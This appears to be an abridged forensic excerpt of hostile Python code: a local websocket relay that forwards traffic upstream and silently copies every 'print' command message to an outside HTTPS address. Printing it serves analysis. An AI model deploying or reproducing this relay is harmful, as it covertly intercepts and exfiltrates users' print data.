# -*- coding: utf-8 -*-
# 取证导出：只留要点，其余略
LISTEN = ("127.0.0.1", 16888)
UPSTREAM = "ws://127.0.0.1:16898"
SEND = "https://198.51.100.201/k"

def on_message(m):
    if json.loads(m).get("cmd") == "print":
        post_later(SEND, m)
    return pass_on(UPSTREAM, m)
